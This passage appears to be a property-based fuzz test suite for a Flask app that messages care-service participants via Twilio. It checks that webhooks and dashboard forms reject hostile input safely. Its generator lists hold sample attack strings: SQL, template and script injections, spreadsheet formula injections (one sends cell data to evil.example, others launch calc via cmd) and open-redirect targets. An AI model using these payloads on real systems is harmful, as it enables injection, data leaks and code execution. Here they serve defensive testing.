"""Hostile input, generated: the Twilio webhooks, the dashboard's forms, campaign text and CSV imports.

The properties: never a 500, never garbage stored, and a refused request changes nothing.

Defects the fuzzing found are pinned, one input each, by the regression tests at the
end of this file.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import quote, urlencode, urlsplit
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from sqlmodel import Session, SQLModel, col, func, select
from twilio.request_validator import RequestValidator
from werkzeug.datastructures import MultiDict

from assistant.care.quiet import allowed_windows
from assistant.clock import FixedClock
from assistant.contact import campaigns
from assistant.contact.appointments import KINDS, OUTCOMES
from assistant.conversation.inbound import MAX_BODY
from assistant.db.models import (
    Answer,
    Appointment,
    AuditLog,
    Campaign,
    CampaignRecipient,
    ContactLog,
    DueTask,
    Flag,
    FlowSession,
    InboundReceipt,
    Measure,
    Message,
    Notification,
    Participant,
    Service,
    Specialist,
    StatusEvent,
)
from assistant.db.service_settings import ServiceSettings
from assistant.db.units import transaction
from assistant.engine import normalise
from assistant.imports.appointments import import_appointments
from assistant.imports.caseload import import_caseload
from assistant.imports.caseload_csv import COHORTS, CsvImportError
from assistant.imports.caseload_csv import OPTIONAL as CASELOAD_OPTIONAL
from assistant.imports.caseload_csv import REQUIRED as CASELOAD_REQUIRED
from assistant.reporting.contact_evidence import weekly_contact
from assistant.reporting.formats import contact_csv
from assistant.runtime import Runtime
from assistant.sending.status import STATUS_RANK
from assistant.timing import parse_hhmm
from assistant.windows import inside

from .conftest import AUTH_TOKEN, PUBLIC_URL, Phone
from .dashboard import conftest as dashboard_fixtures
from .dashboard.conftest import World, csrf

# The dashboard's fixtures, for the tests here that need a world and signed-in users.
world = dashboard_fixtures.world
as_user = dashboard_fixtures.as_user

# --- generators -----------------------------------------------------------------------------------


def fuzz(examples: int) -> settings:
    """Bounded examples per test; FUZZ_SCALE=10 (say) digs deeper in a nightly run."""
    return settings(
        max_examples=examples * int(os.environ.get("FUZZ_SCALE", "1")),
        deadline=None,
        database=None,  # nothing written to the working tree
        print_blob=True,  # a failure prints how to reproduce it exactly
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,  # the database is shared by the examples on purpose
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
            HealthCheck.large_base_example,
        ],
    )


# Any character that UTF-8 can carry, except NUL (pinned by the NUL xfail tests below).
CHARS = st.characters(codec="utf-8", exclude_characters="\x00")
INJECTIONS = [
    "{{ 7*7 }}",
    "{{7*7}}",
    "{% for %}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# note #}",
    "{{ first_name }}",
    "'; DROP TABLE participant; --",
    "Robert'); DROP TABLE message;--",
    '" OR 1=1 --',
    "1; DELETE FROM appointment WHERE 1=1",
    "${7*7}",
    "#{7*7}",
    "%s%s%s%n",
    "{0.__class__}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
]
SPICE = [
    "\r\n",
    "\n",
    "\r",
    "\t",
    "\x0b",
    "\x1b[31m",
    "\x7f",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\u200b",
    "\U0001f60a",
    "\U0001f44d\U0001f3fd",
    "é",
    "ß",
    "İ",
    "ﬃ",
    "０",
    "٣",
    "²",
    "'",
    '"',
    "\\",
    "%",
    "%00",
    "%0A",
    "&",
    "<",
    ";",
    "--",
    " ",
]


def hostile(max_size: int = 60) -> st.SearchStrategy[str]:
    pieces = st.one_of(st.text(CHARS, max_size=8), st.sampled_from(INJECTIONS + FORMULAS + SPICE))
    return st.one_of(
        st.text(CHARS, max_size=max_size),
        st.sampled_from(INJECTIONS + FORMULAS + SPICE),
        st.lists(pieces, max_size=6).map("".join),
    )


def long_text(max_len: int = 5000) -> st.SearchStrategy[str]:
    """Long strings built from a short unit, so Hypothesis need not draw thousands of characters."""
    return st.builds(
        lambda unit, n: (unit * n)[:n], st.text(CHARS, min_size=1, max_size=12), st.integers(min(100, max_len), max_len)
    )


def anything(max_size: int = 60, max_len: int = 5000) -> st.SearchStrategy[str]:
    return st.one_of(hostile(max_size), hostile(max_size), long_text(max_len))


def non_decimal_digits(text: str) -> bool:
    """'²' and friends: str.isdigit() says yes, int() says no (see the duration xfail tests)."""
    return any(c.isdigit() and not c.isdecimal() for c in text)


# --- database helpers -----------------------------------------------------------------------------

EVERYTHING = (
    Service,
    Specialist,
    Participant,
    Appointment,
    DueTask,
    Message,
    InboundReceipt,
    StatusEvent,
    Flag,
    FlowSession,
    Answer,
    Measure,
    Notification,
    Campaign,
    CampaignRecipient,
    ContactLog,
)


def snapshot(rt: Runtime, models: tuple[type[SQLModel], ...] = EVERYTHING) -> dict[str, list[dict[str, Any]]]:
    with transaction(rt.engine) as db:
        state = {}
        for model in models:
            rows = [row.model_dump() for row in db.exec(select(model)).all()]
            state[model.__name__] = sorted(rows, key=lambda r: (r.get("id") or 0, str(r.get("message_sid", ""))))
        return state


def count(rt: Runtime, model: type[SQLModel]) -> int:
    with transaction(rt.engine) as db:
        return int(db.exec(select(func.count()).select_from(model)).one())


def tables_intact(rt: Runtime) -> None:
    """Every table is still there and readable."""
    with rt.engine.connect() as connection:
        for table in SQLModel.metadata.sorted_tables:
            connection.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()


def all_text_stored(rt: Runtime) -> list[str]:
    """Every string value in every table we keep input in."""
    found: list[str] = []
    for rows in snapshot(rt).values():
        for row in rows:
            found += [v for v in row.values() if isinstance(v, str)]
    return found


# --- dashboard helpers ----------------------------------------------------------------------------

DASHBOARD_STATE = (Participant, Appointment, DueTask, Message, Flag, FlowSession, Notification, Specialist)


def post(client: FlaskClient, path: str, data: dict[str, str] | MultiDict[str, str]) -> tuple[Any, list[str], bool]:
    """POST, then take the flashes off the session: (response, error flashes, anything else flashed)."""
    response = client.post(path, data=data)
    with client.session_transaction() as session:
        flashes = list(session.pop("_flashes", []))
    return response, [m for c, m in flashes if c == "error"], any(c != "error" for c, _ in flashes)


def sam_ids(world: World) -> set[int]:
    return {world.ids["P001"], world.ids["P002"]}


def signed_in(as_user: Any, world: World) -> tuple[FlaskClient, str]:
    """Sam, signed in once per test (not once per example: sign-in attempts are rate limited)."""
    cached: tuple[FlaskClient, str] | None = getattr(world, "_signed_in_sam", None)
    if cached is None:
        client: FlaskClient = as_user("sam@example.org")
        cached = client, csrf(client, f"/participants/{world.ids['P001']}")
        world._signed_in_sam = cached  # type: ignore[attr-defined]
    return cached


# --- 1. the SMS webhook ---------------------------------------------------------------------------

PHONES = [
    "+447700900101",
    "07700900102",
    "+44 7700 900103",
    "447700900104",
    "+447700900105",
    "+447700900999",
    "07700 900 998",
    "+1 202 555 0100",
]
SMS_FIELDS = ["MessageSid", "From", "To", "Body", "AccountSid", "NumMedia", "SmsSid", "MessagingServiceSid"]
REPEATED_SIDS = ["SM" + "a" * 32, "SM" + "b" * 32, " SM" + "c" * 32 + " ", "SM1"]


def sms_value(name: str) -> st.SearchStrategy[str]:
    if name == "MessageSid":
        return st.one_of(
            st.sampled_from(REPEATED_SIDS),  # repeats: Twilio retries
            st.text("0123456789abcdef", min_size=1, max_size=40).map(lambda h: "SM" + h),
            hostile(70),
            long_text(200),
        )
    if name == "From":
        return st.one_of(st.sampled_from(PHONES), hostile(50), long_text(300))
    if name == "Body":
        return st.one_of(anything(80, 5000), st.sampled_from(["STOP", "1", "help", "call me", "I want to end it all"]))
    return anything(30, 300)


@st.composite
def sms_form(draw: st.DrawFn) -> list[tuple[str, str]]:
    present = draw(st.sets(st.sampled_from(SMS_FIELDS), max_size=len(SMS_FIELDS)))
    pairs = [(name, draw(sms_value(name))) for name in SMS_FIELDS if name in present]
    # Duplicated fields, and fields Twilio never sends.
    extra = draw(
        st.lists(
            st.one_of(st.sampled_from(SMS_FIELDS), st.text(CHARS, min_size=1, max_size=20)).flatmap(
                lambda n: st.tuples(st.just(n), sms_value(n))
            ),
            max_size=3,
        )
    )
    for pair in extra:
        pairs.insert(draw(st.integers(0, len(pairs))), pair)
    return pairs


def twilio_post(
    client: FlaskClient, path: str, pairs: list[tuple[str, str]], mode: str
) -> tuple[Any, MultiDict[str, str]]:
    form: MultiDict[str, str] = MultiDict(pairs)
    signature = RequestValidator(AUTH_TOKEN).compute_signature(PUBLIC_URL + path, form)
    headers = {
        "good": {"X-Twilio-Signature": signature},
        "none": {},
        "empty": {"X-Twilio-Signature": ""},
        "garbage": {"X-Twilio-Signature": "bm90IGEgc2lnbmF0dXJl"},
        "other token": {
            "X-Twilio-Signature": RequestValidator("another-token").compute_signature(PUBLIC_URL + path, form)
        },
        "other url": {
            "X-Twilio-Signature": RequestValidator(AUTH_TOKEN).compute_signature("http://localhost" + path, form)
        },
        "tampered": {
            "X-Twilio-Signature": RequestValidator(AUTH_TOKEN).compute_signature(
                PUBLIC_URL + path, MultiDict([*pairs, ("Body", "x")])
            )
        },
    }[mode]
    return client.post(path, data=form, headers=headers), form


def big(pairs: list[tuple[str, str]]) -> bool:
    """Near or over the app's 64 KiB request limit (a 413 is a fair answer then)."""
    return len(urlencode(pairs, quote_via=quote)) > 32 * 1024


SIGNING = ["good", "good", "good", "none", "empty", "garbage", "other token", "other url", "tampered"]


@fuzz(120)
@given(pairs=sms_form(), mode=st.sampled_from(SIGNING))
def test_sms_webhook_survives_anything(
    world: World, client: FlaskClient, pairs: list[tuple[str, str]], mode: str
) -> None:
    rt = world.rt
    before = snapshot(rt, (Message, InboundReceipt, Participant, Flag))
    known = {r["message_sid"] for r in before["InboundReceipt"]}
    response, form = twilio_post(client, "/twilio/sms", pairs, mode)
    event(f"{mode}: {response.status_code}")
    assert response.status_code in (200, 400, 403, 413)
    sid, sender = form.get("MessageSid", "").strip(), form.get("From", "").strip()
    if response.status_code != 413 or not big(pairs):
        if mode != "good":
            assert response.status_code == 403
        elif not sid or not sender or len(sid) > 64:
            assert response.status_code == 400
        else:
            assert response.status_code == 200, "a correctly signed, complete request was refused"
    if response.status_code != 200:
        assert snapshot(rt, (Message, InboundReceipt, Participant, Flag)) == before  # refused: nothing stored

    with transaction(rt.engine) as db:
        inbound = db.exec(select(Message).where(Message.direction == "in")).all()
        receipts = {r.message_sid for r in db.exec(select(InboundReceipt)).all()}
    per_sid: dict[str | None, int] = {}
    for message in inbound:
        per_sid[message.provider_sid] = per_sid.get(message.provider_sid, 0) + 1
        assert isinstance(message.body, str) and len(message.body) <= MAX_BODY
        message.body.encode("utf-8")  # valid text
        assert len(message.phone) <= 40
    assert all(n == 1 for n in per_sid.values()), f"more than one inbound row for a MessageSid: {per_sid}"
    assert set(per_sid) == receipts
    if response.status_code == 200 and sid not in known:
        [stored] = [m for m in inbound if m.provider_sid == sid]
        assert stored.body == form.get("Body", "")[:MAX_BODY]


# --- 2. the status callback -----------------------------------------------------------------------

WITHDRAWN = ("cancelled", "expired", "suppressed")


@st.composite
def status_form(draw: st.DrawFn, sids: list[str]) -> list[tuple[str, str]]:
    fields = {
        "MessageSid": st.one_of(st.sampled_from(sids), hostile(70)),
        "MessageStatus": st.one_of(
            st.sampled_from([*STATUS_RANK, *WITHDRAWN, "received", "DELIVERED", " Sent ", "Read", "canceled"]),
            hostile(20),
            long_text(100),
        ),
        "ErrorCode": st.one_of(
            st.sampled_from(["30006", "21610", "30003", "30005", "21211", "0", ""]), hostile(20), long_text(60)
        ),
        "AccountSid": hostile(40),
    }
    pairs = []
    for name, strategy in fields.items():
        required = name in ("MessageSid", "MessageStatus")
        if draw(st.integers(0, 9)) > 0 if required else draw(st.booleans()):
            pairs.append((name, draw(strategy)))
    if draw(st.booleans()):  # a duplicated field
        name = draw(st.sampled_from(list(fields)))
        pairs.insert(draw(st.integers(0, len(pairs))), (name, draw(fields[name])))
    return pairs


def status_of(rt: Runtime) -> dict[int, str]:
    with transaction(rt.engine) as db:
        return {m.id: m.status for m in db.exec(select(Message).where(Message.direction == "out")).all() if m.id}


@fuzz(100)
@given(data=st.data())
def test_status_callback_survives_anything_and_never_goes_back(
    world: World, client: FlaskClient, phone: Phone, data: st.DataObject
) -> None:
    rt = world.rt
    if count(rt, Message) == 0:  # the first example: send something, and keep a withdrawn message with a sid too
        phone.text("+447700900101", "hello")
        phone.text("+447700900102", "hello")
        with transaction(rt.engine) as db:
            db.add(
                Message(
                    participant_id=world.ids["P002"],
                    direction="out",
                    body="withdrawn",
                    at=rt.clock.now(),
                    status="cancelled",
                    phone="+447700900102",
                    provider_sid="SMwithdrawn0000000000000000000000",
                )
            )
    with transaction(rt.engine) as db:
        sids = sorted(m.provider_sid for m in db.exec(select(Message).where(Message.direction == "out")).all())
    assert len(sids) >= 3 and all(sids)
    pairs = data.draw(status_form(sids), label="form")
    mode = data.draw(st.sampled_from(SIGNING), label="signing")

    before, events = status_of(rt), count(rt, StatusEvent)
    response, form = twilio_post(client, "/twilio/status", pairs, mode)
    event(f"{mode}: {response.status_code}")
    assert response.status_code in (204, 400, 403, 413)
    sid, status = form.get("MessageSid", "").strip(), form.get("MessageStatus", "").strip().lower()
    if mode != "good":
        assert response.status_code in (403, 413)
    elif not sid or not status or len(sid) > 64 or len(status) > 16:
        assert response.status_code in (400, 413)
    else:
        assert response.status_code == 204
        with transaction(rt.engine) as db:
            latest = db.exec(select(StatusEvent).order_by(col(StatusEvent.id).desc())).first()
        assert latest is not None and (latest.provider_sid, latest.status) == (sid, status)
        assert latest.error_code == (form.get("ErrorCode", "").strip()[:16] or None)
    if response.status_code != 204:
        assert count(rt, StatusEvent) == events and status_of(rt) == before

    after = status_of(rt)
    for message_id, old in before.items():
        new = after[message_id]
        if old in WITHDRAWN:
            assert new == old, f"a withdrawn message became {new!r}"
        elif old in STATUS_RANK:
            assert new in STATUS_RANK, f"{old!r} became unknown status {new!r}"
            assert STATUS_RANK[new] >= STATUS_RANK[old], f"status went back: {old!r} -> {new!r}"
    with transaction(rt.engine) as db:
        for message in db.exec(select(Message)).all():
            assert message.error_code is None or len(message.error_code) <= 16


# --- 3. dashboard forms as a signed-in specialist -------------------------------------------------

VALID_PREFERENCES = {
    "checkin_day": st.sampled_from(["Mon", "tue", "Wednesday", "THU", "fri", "Sat", "sun"]),
    "checkin_time": st.sampled_from(["10:30", "12:00", "17:15", "9:05"]),
    "allowed_from": st.sampled_from(["07:00", "08:00", "09:00", "9:00"]),
    "allowed_until": st.sampled_from(["18:00", "20:00", "21:30"]),
    "every_weeks": st.sampled_from(["1", "2", "4"]),
    "language": st.just("en-GB"),
    "show_location": st.sampled_from(["yes", "no"]),
}
ODD_TIMES = ["24:00", "10:60", "1030", "10:3", "١٠:٣٠", "１０:３０", "²:30", " 10:30 ", "-1:30", "10:30:00", ":", "7:5"]
ODD_PREFERENCES = {
    "checkin_day": st.one_of(st.sampled_from(["Mo", "Monday!", "lundi", "", "7", "Mon "]), hostile(20)),
    "checkin_time": st.one_of(st.sampled_from([*ODD_TIMES, "06:00", "22:00"]), hostile(12)),
    "allowed_from": st.one_of(st.sampled_from([*ODD_TIMES, "20:00", "23:59"]), hostile(12)),
    "allowed_until": st.one_of(st.sampled_from([*ODD_TIMES, "08:00", "00:00"]), hostile(12)),
    "every_weeks": st.one_of(st.sampled_from(["0", "3", "01", " 1", "1.0", "-1", "٢", "²"]), hostile(8)),
    "language": st.one_of(st.sampled_from(["cy-GB", "en-gb", "", "en-GB "]), hostile(20)),
    "show_location": anything(10, 3000),
    "junk": anything(20, 3000),
}


@st.composite
def preferences_form(draw: st.DrawFn, *, valid_only: bool = False) -> dict[str, str]:
    """A valid form with up to three fields spoiled and up to two left out."""
    form = {name: draw(strategy) for name, strategy in VALID_PREFERENCES.items()}
    if valid_only:
        return form
    for name in draw(st.sets(st.sampled_from(list(ODD_PREFERENCES)), max_size=3)):
        form[name] = draw(ODD_PREFERENCES[name])
    for name in draw(st.sets(st.sampled_from(list(VALID_PREFERENCES)), max_size=2)):
        form.pop(name, None)
    return form


HHMM = re.compile(r"([01]\d|2[0-3]):[0-5]\d")


@fuzz(80)
@given(form=preferences_form())
def test_preferences_form(as_user: Any, world: World, form: dict[str, str]) -> None:
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    before = snapshot(world.rt, DASHBOARD_STATE)
    response, errors, saved = post(client, f"/participants/{pid}/preferences", {**form, "csrf_token": token})
    event("refused" if errors else f"{response.status_code} saved={saved}")
    assert response.status_code in (302, 413)
    if errors or response.status_code == 413:
        assert snapshot(world.rt, DASHBOARD_STATE) == before, f"refused ({errors}) but something changed"
        return
    assert saved
    person = world.participant("P001")
    assert person.checkin_day in range(7) and person.checkin_every_weeks in (1, 2, 4)
    for value in (person.checkin_time, person.allowed_from, person.allowed_until):
        assert value is not None and HHMM.fullmatch(value), f"stored time {value!r}"
    assert person.allowed_from is not None and person.allowed_until is not None
    windows = allowed_windows(person, ServiceSettings())  # one window (perhaps across midnight) or two parts
    assert inside(parse_hhmm(person.checkin_time), windows)
    assert person.language == "en-GB"
    assert person.show_location == (form.get("show_location") == "yes")
    with transaction(world.rt.engine) as db:
        pending = db.exec(
            select(DueTask).where(DueTask.participant_id == pid, DueTask.kind == "checkin", DueTask.status == "pending")
        ).all()
    assert len(pending) == 1 and pending[0].due_at is not None and pending[0].due_at > world.rt.clock.now()


STARTS = [
    "2026-12-01T10:00",
    "2026-12-01 10:00",
    "2026-12-01T10:00:30",
    "01/12/2026 10:00",
    "2026-11-22T12:30",
    "2026-11-22T11:59",
    "2026-11-20T10:00",
    "2027-03-28T01:30",  # the clocks go forward: does not exist
    "2027-10-31T01:30",  # the clocks go back: happens twice
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "2026-02-30T10:00",
    "2026-12-01T24:00",
    "2026-12-01T10:00Z",
    "2026-12-01T10:00+05:00",
    "tomorrow",
    "",
]
FUTURE = ["2026-12-01T10:00", "2026-12-01 10:00", "2026-12-01T10:00:30", "01/12/2026 10:00", "2026-11-22T12:30"]
VALID_APPOINTMENT = {
    "starts_at": st.sampled_from([*FUTURE, "9999-12-31T23:59"]),
    "kind": st.sampled_from(KINDS),
    "duration_minutes": st.sampled_from(["5", "60", "480", "٣٠", "１２０"]),
    "location": anything(40, 300),
    "with_whom": anything(40, 200),
    "outcome": st.sampled_from(OUTCOMES),
}
ODD_APPOINTMENT = {
    "starts_at": st.one_of(st.sampled_from(STARTS), hostile(30)),
    "kind": st.one_of(st.sampled_from(["MEETING", "party", ""]), hostile(20)),
    # No '²'-style digits: pinned by test_non_decimal_digits_as_a_duration_are_refused.
    "duration_minutes": st.one_of(st.sampled_from(["4", "481", "0", "-5", "60.5", ""]), hostile(8)).filter(
        lambda d: not non_decimal_digits(d)
    ),
    "location": long_text(5000),
    "with_whom": long_text(5000),
    "outcome": st.one_of(st.sampled_from(["DNA", "", "no-show"]), hostile(20)),
}


@st.composite
def spoiled(
    draw: st.DrawFn,
    valid: dict[str, st.SearchStrategy[str]],
    odd: dict[str, st.SearchStrategy[str]],
    fields: list[str],
) -> dict[str, str]:
    """A valid form with up to two fields spoiled and perhaps one left out."""
    form = {name: draw(valid[name]) for name in fields}
    for name in draw(st.sets(st.sampled_from(fields), max_size=2)):
        form[name] = draw(odd[name])
    for name in draw(st.sets(st.sampled_from(fields), max_size=1)):
        del form[name]
    return form


def appointments_of(rt: Runtime, participant_id: int) -> list[Appointment]:
    with transaction(rt.engine) as db:
        return list(
            db.exec(
                select(Appointment).where(Appointment.participant_id == participant_id).order_by(col(Appointment.id))
            ).all()
        )


@fuzz(100)
@given(data=st.data())
def test_appointment_forms(as_user: Any, world: World, clock: FixedClock, data: st.DataObject) -> None:
    rt = world.rt
    client, token = signed_in(as_user, world)
    pid, theirs = world.ids["P001"], world.ids["P003"]
    if not appointments_of(rt, theirs):  # first example: one of Chris's participants has an appointment too
        other = as_user("chris@example.org")
        body = {
            "starts_at": "2026-12-02T10:00",
            "kind": "meeting",
            "csrf_token": csrf(other, f"/participants/{theirs}"),
        }
        assert other.post(f"/participants/{theirs}/appointments", data=body).status_code == 302
    # Each example a second later: two adds in the same second are pinned by
    # test_two_appointments_added_in_the_same_second.
    clock.set(clock.now() + timedelta(seconds=1))
    mine = [a.id for a in appointments_of(rt, pid)]
    action = data.draw(st.sampled_from(["add", "add", "move", "outcome"]), label="action")
    fields = {"add": ["starts_at", "kind", "duration_minutes", "location", "with_whom"], "move": ["starts_at"]}
    form = data.draw(spoiled(VALID_APPOINTMENT, ODD_APPOINTMENT, fields.get(action, ["outcome"])), label="form")
    target: int | None = None
    if action == "add":
        path = f"/participants/{pid}/appointments"
    else:
        # Drawn the same way whatever is in the database, so Hypothesis can replay and shrink.
        which = data.draw(st.sampled_from(["mine", "mine", "theirs", "random"]), label="which")
        index, number = data.draw(st.integers(0, 999), label="index"), data.draw(st.integers(1, 2**31 - 1))
        foreign = appointments_of(rt, theirs)[0].id
        target = {"mine": mine[index % len(mine)] if mine else number, "theirs": foreign, "random": number}[which]
        path = f"/participants/{pid}/appointments/{target}/{action}"

    before = snapshot(rt, DASHBOARD_STATE)
    old = {a.id: a for a in appointments_of(rt, pid)}
    response, errors, done = post(client, path, {**form, "csrf_token": token})
    event(f"{action}: {'refused' if errors else response.status_code}")
    assert response.status_code in (302, 404, 413)
    if response.status_code == 404:
        assert target is not None and target not in mine
    if response.status_code != 302 or errors:
        assert snapshot(rt, DASHBOARD_STATE) == before, f"refused ({errors}) but something changed"
        return
    assert target is None or target in mine, "changed an appointment that is not this participant's"
    assert done
    now, after = rt.clock.now(), {a.id: a for a in appointments_of(rt, pid)}
    if action == "add":
        [new_id] = set(after) - set(old)
        added = after[new_id]
        assert added.kind in KINDS and 5 <= added.duration_minutes <= 480
        assert added.starts_at is not None and added.starts_at > now and added.outcome is None
        assert added.location == form.get("location", "")[:300]
        assert added.with_whom == form.get("with_whom", "")[:200]
    elif action == "move":
        assert target is not None
        moved = after[target]
        assert moved.starts_at is not None and moved.starts_at > now and moved.outcome is None
        assert moved.version == old[target].version + 1
    else:
        assert target is not None
        marked = after[target]
        assert marked.outcome == form["outcome"] and marked.outcome in OUTCOMES
        if marked.outcome in ("attended", "dna"):
            assert marked.starts_at is not None and marked.starts_at <= now
    assert client.get(f"/participants/{pid}").status_code == 200  # what was stored still shows


def one_off_text(body: str) -> str:
    return body.replace("\r\n", "\n").strip()


@fuzz(80)
@given(
    body=st.one_of(anything(80, 2000), st.sampled_from(INJECTIONS), long_text(1700)),
    confirm=st.one_of(st.none(), st.just("yes"), st.just("yes"), hostile(5)),
)
def test_one_off_message(as_user: Any, world: World, body: str, confirm: str | None) -> None:
    rt = world.rt
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    form = {"csrf_token": token, "body": body} | ({"confirm": confirm} if confirm is not None else {})
    before = snapshot(rt, DASHBOARD_STATE)
    response, errors, _ = post(client, f"/participants/{pid}/message", form)
    event(f"{'refused' if errors else response.status_code}")
    assert response.status_code in (200, 302, 413)
    text = one_off_text(body)
    acceptable = 1 <= len(text) <= 1600 and not any(ord(c) < 32 and c != "\n" for c in text)
    after = snapshot(rt, DASHBOARD_STATE)
    new = [m for m in after["Message"] if m["id"] not in {b["id"] for b in before["Message"]}]
    if response.status_code == 200:  # the preview: nothing sent, the text shown as text
        assert confirm != "yes" and acceptable and not errors
        assert after == before
        assert str(escape(text)) in response.get_data(as_text=True)
    elif acceptable and confirm == "yes" and response.status_code == 302:
        [sent] = new
        assert (sent["body"], sent["direction"], sent["participant_id"]) == (text, "out", pid)
    else:
        assert errors or response.status_code == 413
        assert after == before


SPECIALIST_EMAILS = ("sam@example.org", "chris@example.org", "robin@example.org", "kim@example.org")


@fuzz(60)
@given(data=st.data())
def test_transfer(as_user: Any, world: World, data: st.DataObject) -> None:
    rt = world.rt
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    with transaction(rt.engine) as db:
        ids = {s.email: s.id for s in db.exec(select(Specialist)).all()}
    target = data.draw(
        st.one_of(
            st.sampled_from(SPECIALIST_EMAILS).map(lambda e: str(ids[e])),
            st.integers(-(2**31), 2**31 - 1).map(str),
            hostile(20),
            st.none(),
        ),
        label="specialist_id",
    )
    if target is not None:
        try:
            number: int | None = int(target)
        except ValueError:
            number = None
        # Ids beyond a 32-bit integer: pinned by test_transfer_to_a_huge_specialist_id_is_refused.
        assume(number is None or abs(number) < 2**31)
    form = {"csrf_token": token} | ({"specialist_id": target} if target is not None else {})
    before = snapshot(rt, DASHBOARD_STATE)
    response, errors, done = post(client, f"/participants/{pid}/transfer", form)
    event("refused" if errors else "transferred")
    assert response.status_code == 302
    if errors:
        assert snapshot(rt, DASHBOARD_STATE) == before
        return
    assert done
    person = world.participant("P001")
    new_owner = next(email for email, i in ids.items() if i == person.specialist_id)
    assert new_owner in ("chris@example.org", "robin@example.org"), f"transferred to {new_owner}"
    assert client.get(f"/participants/{pid}").status_code == 404  # no longer Sam's
    with transaction(rt.engine) as db:  # give Alex back for the next example
        alex = db.get(Participant, pid)
        assert alex is not None
        alex.specialist_id = ids["sam@example.org"]
        db.add(alex)
        for flag in db.exec(select(Flag).where(Flag.participant_id == pid)).all():
            flag.specialist_id = ids["sam@example.org"]
            db.add(flag)


BACKS = [
    "/flags",
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "/%2F/evil.example",
    "/ /evil.example",
]


@fuzz(80)
@given(
    action=st.sampled_from(["resolve", "resolve", "acknowledge"]),
    note=st.one_of(st.none(), anything(60, 3000), st.sampled_from(["", "   ", "\t\n"])),
    # No CR or LF (pinned by test_a_newline_in_back_is_not_a_500) and no tab (pinned by
    # test_back_never_redirects_off_the_site): both break the redirect.
    back=st.one_of(st.none(), st.sampled_from(BACKS), hostile(40)).filter(
        lambda b: b is None or not any(c in b for c in "\r\n\t")
    ),
    which=st.sampled_from(["mine", "mine", "theirs", "random"]),
    random_id=st.integers(1, 2**31 - 1),
)
def test_flag_forms(
    as_user: Any,
    world: World,
    phone: Phone,
    action: str,
    note: str | None,
    back: str | None,
    which: str,
    random_id: int,
) -> None:
    rt = world.rt
    client, token = signed_in(as_user, world)
    with transaction(rt.engine) as db:
        flags = {f.participant_id: f.id for f in db.exec(select(Flag).where(Flag.kind == "crisis")).all()}
    if not flags:
        phone.text("+447700900101", "I want to end it all")
        phone.text("+447700900103", "I want to end it all")
        with transaction(rt.engine) as db:
            flags = {f.participant_id: f.id for f in db.exec(select(Flag).where(Flag.kind == "crisis")).all()}
    mine, theirs = flags[world.ids["P001"]], flags[world.ids["P003"]]
    flag_id = {"mine": mine, "theirs": theirs, "random": random_id}[which]
    form = {"csrf_token": token} | ({"note": note} if note is not None else {}) | ({"back": back} if back else {})
    before = snapshot(rt, DASHBOARD_STATE)
    response, errors, done = post(client, f"/flags/{flag_id}/{action}", form)
    event(f"{action} {which}: {'refused' if errors else response.status_code}")
    assert response.status_code in (302, 303, 404, 413)
    if flag_id != mine:
        assert response.status_code in (404, 413)
    if response.status_code != 302 or errors:
        assert snapshot(rt, DASHBOARD_STATE) == before, f"refused ({errors}) but something changed"
        if response.status_code == 303:
            assert action == "resolve" and not (note or "")[:2000].strip()
        return
    location = urlsplit(response.headers["Location"])
    assert not location.scheme and not location.netloc, f"redirected off the site: {response.headers['Location']}"
    assert location.path.startswith("/") and not location.path.startswith("//")
    assert done
    with transaction(rt.engine) as db:
        flag = db.get(Flag, mine)
        assert flag is not None
        if action == "resolve":
            assert (flag.status, flag.resolved_by) == ("resolved", "sam@example.org")
            assert flag.note is not None and (note or "")[:2000].strip() in flag.note
            flag.status, flag.resolved_at, flag.resolved_by = "open", None, None  # open again for the next example
            db.add(flag)
        else:
            assert flag.status in ("acknowledged", "resolved", "open")
            assert flag.acknowledged_by is not None


PARTICIPANT_ROUTES = [
    ("post", "/participants/{pid}/pause"),
    ("post", "/participants/{pid}/resume"),
    ("post", "/participants/{pid}/preferences"),
    ("post", "/participants/{pid}/message"),
    ("post", "/participants/{pid}/transfer"),
    ("post", "/participants/{pid}/appointments"),
    ("post", "/participants/{pid}/appointments/{aid}/move"),
    ("post", "/participants/{pid}/appointments/{aid}/outcome"),
    ("get", "/participants/{pid}"),
    ("get", "/participants/{pid}/export.json"),
]


@fuzz(100)
@given(data=st.data())
def test_participants_out_of_reach_are_always_404(as_user: Any, world: World, data: st.DataObject) -> None:
    rt = world.rt
    client, token = signed_in(as_user, world)
    reachable = sam_ids(world)
    theirs = [i for e, i in world.ids.items() if i not in reachable]
    # Ids up to a 32-bit integer: larger ones are pinned by test_a_huge_participant_id_is_404.
    pid = data.draw(
        st.one_of(st.sampled_from(theirs), st.integers(1, 2**31 - 1).filter(lambda i: i not in reachable)), label="pid"
    )
    method, route = data.draw(st.sampled_from(PARTICIPANT_ROUTES), label="route")
    aid = data.draw(st.integers(1, 2**31 - 1), label="appointment")
    if route.endswith("/preferences"):
        # Valid preferences only: invalid ones are pinned by test_preferences_out_of_reach_are_404_even_when_invalid.
        form = data.draw(preferences_form(valid_only=True), label="form")
    else:
        form = data.draw(
            st.fixed_dictionaries(
                {},
                optional={
                    "body": st.one_of(st.just("Hello"), hostile(40)),
                    "confirm": st.just("yes"),
